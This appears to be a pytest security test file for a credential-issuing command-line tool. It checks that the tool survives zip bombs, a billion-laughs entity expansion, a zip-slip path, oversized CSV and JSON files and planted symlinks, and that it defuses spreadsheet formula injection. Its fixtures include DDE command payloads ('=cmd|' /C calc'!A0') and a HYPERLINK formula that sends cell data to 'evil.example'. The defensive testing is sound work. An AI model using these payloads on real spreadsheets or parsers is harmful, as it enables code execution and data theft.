"""T20, T21 at the command: what goes in may be a bomb, and what comes out must not be one."""

from __future__ import annotations

import csv
import io
import os
import resource
import subprocess
import sys
import zipfile

import openpyxl
import pytest

from support.command import LER, Ler

MEMORY_MIB = 200
"""T21: what reading any file may take in all, the interpreter and the libraries included."""
ADDRESS_SPACE = 1 << 30
"""What the process may ask for: a bomb that unpacks runs into it."""
CPU_SECONDS = 4
"""T21 asks for one second; the start of the interpreter and of its libraries is in here too."""
PROGRAM = f"""
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({ADDRESS_SPACE}, {ADDRESS_SPACE}))
resource.setrlimit(resource.RLIMIT_CPU, ({CPU_SECONDS}, {CPU_SECONDS}))
from openler.cli.main import main
try:
    main()
finally:
    told = open("/proc/self/status").read()  # ru_maxrss would count the process that forked us
    print("peak=" + told.partition("VmHWM:")[2].split()[0], file=sys.stderr)
"""


def limited(ler, *arguments: object) -> tuple[subprocess.CompletedProcess[str], int]:
    """Run the command with bounds on memory and time; return how it ended and its peak in MiB."""
    done = subprocess.run(
        [sys.executable, "-c", PROGRAM, "--home", ler.home, *map(str, arguments)],
        cwd=ler.folder,
        env=Ler(ler.folder).full_environment(),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "Traceback" not in done.stderr, done.stderr[-2000:]
    return done, int(done.stderr.rpartition("peak=")[2]) // 1024


def sheet(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def packed(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def swollen_sheet() -> bytes:
    """A workbook whose sheet unpacks to 300 MB of spaces."""
    whole = sheet([["Name", "Email"], ["Ana Ruiz", "ana@b.example"]])
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            before, mark, after = data.partition(b"<sheetData>")
            with archive.open(name, "w") as part:
                part.write(before)
                for _ in range(300 if "sheet1" in name else 0):
                    part.write(b" " * 1_000_000)
                part.write(mark + after)
    return target.getvalue()


def entity_sheet() -> bytes:
    whole = sheet([["Name"]])
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    lines = [b'<!DOCTYPE a [<!ENTITY l0 "lol">']
    lines += [b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)]
    parts["xl/worksheets/sheet1.xml"] = b"".join(lines) + b"]><a>&l9;</a>"
    return packed(parts)


BOMBS = {
    "a sheet that unpacks to 300 MB": ("a.xlsx", swollen_sheet),
    "entities that grow a billionfold": ("a.xlsx", entity_sheet),
    "an archive of archives": ("a.xlsx", lambda: packed({"b.zip": packed({"c": bytes(10**7)})})),
    "a part that leaves the archive": ("a.xlsx", lambda: packed({"../../pwned": b"x"})),
    "a row of ten million columns": ("a.csv", lambda: b"Name,Email\n" + b"," * 10_000_000),
    "a quotation that never ends": ("a.csv", lambda: b'Name,Email\n"' + b"a" * 50_000_000),
    "a line of 50 MB": ("a.csv", lambda: b"a" * 50_000_000),
    "zero bytes": ("a.csv", lambda: bytes(50_000_000)),
    "random bytes": ("a.csv", lambda: os.urandom(5_000_000)),
    "an empty file": ("a.csv", lambda: b""),
    "half of UTF-16": ("a.csv", lambda: b"\xff\xfeN\x00a\x00m\x00e\x00\n"),
    "a workbook cut short": ("a.xlsx", lambda: sheet([["Name"], ["Ana"]])[:-200]),
}


@pytest.mark.parametrize("kind", BOMBS)
def test_t21_a_bomb_for_a_class_list_ends_at_once_with_words_and_in_bounded_memory(ler, kind):
    name, make = BOMBS[kind]
    (ler.folder / name).write_bytes(make())
    done, peak = limited(ler, "award-batch", "welding-i", name, "--commit")
    assert done.returncode == 1, done.stdout + done.stderr
    assert len(done.stderr.strip()) > 20
    assert peak < MEMORY_MIB
    assert ler.json("records") == []
    assert not (ler.folder.parent / "pwned").exists()


@pytest.mark.parametrize(
    "command", [["verify"], ["trust", "add"], ["achievement", "add", "--file"]]
)
def test_t10_a_bomb_for_any_other_command_ends_at_once_as_well(ler, command):
    bombs = {
        "brackets.json": b"[" * 5_000_000,
        "large.json": b'{"a": "' + b"x" * 60_000_000 + b'"}',
        "numbers.json": b"[" + b"1," * 5_000_000 + b"1]",
        "members.json": b"{" + b",".join(b'"%x":1' % n for n in range(900_000)) + b"}",
        "digits.json": b"1" * 5_000_000,
    }
    for name, data in bombs.items():
        (ler.folder / name).write_bytes(data)
        done, peak = limited(ler, *command, name)
        assert done.returncode in {1, 3}, done.stderr
        assert peak < MEMORY_MIB


def test_t10_a_device_without_end_is_read_to_a_bound(ler):
    done, peak = limited(ler, "verify", "/dev/zero")
    assert done.returncode == 3
    assert peak < MEMORY_MIB


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "'=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_t20_the_file_of_problem_rows_is_safe_to_open_and_keeps_what_was_typed(ler, formula):
    """A learner types a formula as her name; the registrar opens the problems in a spreadsheet."""
    rows = [["Name", "Email", "Note " + formula], [formula, "no address", formula]]
    with (ler.folder / "class.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    ler.run("award-batch", "welding-i", "class.csv", "--commit")
    with (ler.folder / "class.problems.csv").open(newline="", encoding="utf-8-sig") as file:
        text = file.read()
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any("cmd" in cell or "1+1" in cell or "HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]
    again = ler.run("award-batch", "welding-i", "class.problems.csv", "--json")
    assert again.returncode in {0, 1}
    assert ler.json("records") == []


def test_a_planted_link_does_not_lead_what_we_write_out_of_its_folder(ler):
    """Somebody else who may write to the folder lays a link where the next draft will be."""
    victim = ler.folder / "victim"
    victim.write_text("precious")
    ler("award", "welding-i", "--name", "Ana Ruiz", "--out", "ana.json")
    ler("publish", "site")
    published = [path for path in (ler.folder / "site").rglob("*") if path.is_file()]
    assert published
    for path in published:
        path.with_name(path.name + ".new").symlink_to(victim)
        path.unlink()
        path.symlink_to(victim)
    ler.run("publish", "site")
    (ler.folder / "ana.json.new").symlink_to(victim)
    ler.run("award", "welding-i", "--name", "Ana Ruiz", "--out", "ana.json")
    ler("export", "out")
    for path in list((ler.folder / "out").iterdir()):
        path.unlink()
        path.symlink_to(victim)
        path.with_name(path.name + ".new").symlink_to(victim)
    ler("export", "out")
    (ler.folder / "class.csv").write_text("Name,Email\nAna,nowhere\n")
    (ler.folder / "class.problems.csv.new").symlink_to(victim)
    ler.run("award-batch", "welding-i", "class.csv")
    assert victim.read_text() == "precious"


def test_a_folder_of_what_is_published_that_leads_elsewhere_is_refused(ler):
    ler("award", "welding-i", "--name", "Ana Ruiz", "--out", "ana.json")
    elsewhere = ler.folder / "elsewhere"
    elsewhere.mkdir()
    (ler.folder / "site").mkdir()
    (ler.folder / "site/status").symlink_to(elsewhere)
    assert ler.run("publish", "site").returncode == 1
    assert list(elsewhere.iterdir()) == []


def test_a_full_disk_leaves_no_half_of_a_published_list(ler):
    """The old list stays whole; half of one would be refused by every reader."""
    ler("award", "welding-i", "--name", "Ana Ruiz", "--out", "ana.json")
    ler("publish", "site")
    [path] = [one for one in (ler.folder / "site").rglob("*.json") if "suspension" not in one.name]
    before = path.read_bytes()

    def small_disk():
        resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))

    (ler.folder / "openler-data/openler.sqlite-wal").unlink(missing_ok=True)
    done = subprocess.run(
        [LER, "--home", ler.home, "publish", "site"],
        cwd=ler.folder,
        env=Ler(ler.folder).full_environment(),
        preexec_fn=small_disk,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode != 0
    assert path.read_bytes() == before
